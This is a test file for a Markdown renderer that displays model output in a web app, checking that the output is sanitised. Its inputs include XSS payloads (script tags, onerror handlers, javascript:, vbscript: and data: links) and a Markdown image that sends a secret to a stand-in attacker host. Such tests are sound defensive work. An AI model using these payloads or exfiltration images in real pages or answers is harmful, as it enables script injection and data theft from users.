import { expect, test } from 'vitest';
import { renderMarkdown } from '../../web/src/lib/markdown.ts';

test('raw HTML in model output is rendered as text, never as markup', () => {
  const html = renderMarkdown('<script>alert(1)</script> <img src=x onerror="alert(2)"> <b>bold</b>');
  expect(html).not.toContain('<script');
  expect(html).not.toContain('<img');
  expect(html).not.toContain('<b>');
  expect(html).toContain('&lt;script&gt;');
  expect(html).toContain('&lt;img src=x onerror=&quot;alert(2)&quot;&gt;');
});

test('javascript:, vbscript: and data: links do not become links; http links open without an opener', () => {
  const html = renderMarkdown(
    '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](vbscript:x) [d](data:text/html,<script>x</script>) [e](https://example.org/x)',
  );
  expect(html).not.toMatch(/href="(javascript|vbscript|data):/i);
  expect(html).toContain('<a href="https://example.org/x" target="_blank" rel="noopener noreferrer nofollow">e</a>');
});

test('images are not rendered, so an answer cannot make the browser fetch a URL by itself', () => {
  const html = renderMarkdown('![leak](https://attacker.example/pixel?q=secret)');
  expect(html).not.toContain('<img');
});

test('ordinary Markdown renders: code, lists, tables, emphasis', () => {
  const html = renderMarkdown(
    '# Title\n\n- one\n- **two**\n\n```ts\nconst x = 1 < 2;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |',
  );
  expect(html).toContain('<h1>Title</h1>');
  expect(html).toContain('<strong>two</strong>');
  expect(html).toContain('<code class="language-ts">const x = 1 &lt; 2;');
  expect(html).toContain('<table>');
});
